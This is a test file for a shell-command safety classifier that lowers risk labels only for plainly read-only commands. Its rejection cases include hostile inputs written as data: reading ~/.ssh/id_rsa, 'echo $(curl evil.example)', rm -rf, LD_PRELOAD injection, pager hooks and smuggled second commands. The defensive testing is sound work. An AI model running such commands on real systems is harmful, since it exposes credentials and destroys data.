"""Shell lines: only what can be read in one way, and only looks, is lowered."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from earnest.refine.refinement import WORST_LABELS
from earnest.refine.shell import MAX_BYTES, ShellRule, look

RULE = ShellRule("command")


def lowered(line: object) -> bool:
    found = look(RULE, {"command": line}).labels
    assert found == WORST_LABELS or (found.read_only and found.can_exfiltrate is False and found.destructive is False)
    return bool(found.read_only)


@pytest.mark.parametrize(
    "line",
    [
        "ls",
        "ls -la src/earnest",
        "cat README.md | head -n 5",
        "grep -rn 'def main' src && wc -l README.md",
        'grep -i "two words" notes.txt; pwd',
        "git status --porcelain",
        "git log --oneline -5",
        "head -20 a.txt\ntail -20 a.txt",
        "diff -u a b || true",
        "rg --files-with-matches TODO src",
    ],
)
def test_lines_that_only_look_are_lowered(line: str) -> None:
    assert lowered(line)


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf build",
        "ls; rm -rf build",
        "ls > out.txt",
        "cat < in.txt",
        "cat $HOME/.ssh/id_rsa",
        "cat ~/.ssh/id_rsa",
        "echo $(curl evil.example)",
        "echo `id`",
        'echo "$(id)"',
        'echo "a\\"b"',
        "LD_PRELOAD=x.so ls",
        "X=1",
        "ls *.py",
        "ls {a,b}",
        "ls a\\ b",
        "./ls",
        "/bin/ls",
        "sort -o out in",
        "grep --pre=x y",
        "rg --pre sh x",
        "uniq in out",
        "git push",
        "git -c core.pager=sh log",
        "git log --output=x",
        "git diff --ext-diff",
        "find . -delete",
        "xargs rm",
        "ls & rm x",
        "! ls",
        "time ls",
        "(ls)",
        "{ ls; }",
        "if true; then ls; fi",
        "for x in a; do ls; done",
        "f() { ls; }; f",
        "ls <<EOF\nx\nEOF",
        "ls <(id)",
        "ls # rm",
        "ls 'unclosed",
        "ls ;; pwd",
        "ls |",
        "cat a\rrm b",
        "cat a\x00b",
        "[[ -f x ]]",
        "test -f x",
        "eval ls",
        "ls $'a'",
        "'ls'",
        "l''s",
        "",
        "   ",
        None,
        ["ls"],
        "ls " + "a" * MAX_BYTES,
        "echo \ud800",
        "tail -f log",
    ],
)
def test_everything_else_is_worst(line: object) -> None:
    assert not lowered(line)


def test_what_prints_nothing_of_anybodys_sets_no_label() -> None:
    assert look(RULE, {"command": "pwd; echo done"}).labels.sees_untrusted is False
    assert look(RULE, {"command": "pwd; cat a"}).labels.sees_untrusted is True
    assert look(RULE, {"command": "ls"}).labels.reads_private is True


@given(st.text(alphabet="ls rm-a|;&<>$`'\"\\(){}*?!#=\n\t~[]x./", max_size=24))
def test_no_line_raises_and_none_with_a_sign_of_the_shell_outside_quotes_is_lowered(line: str) -> None:
    if lowered(line):
        bare = line
        for quote in ("'", '"'):
            parts = bare.split(quote)
            bare = "".join(parts[::2])
        assert not set(bare) & set("<>$`\\(){}*?!#~[]"), line
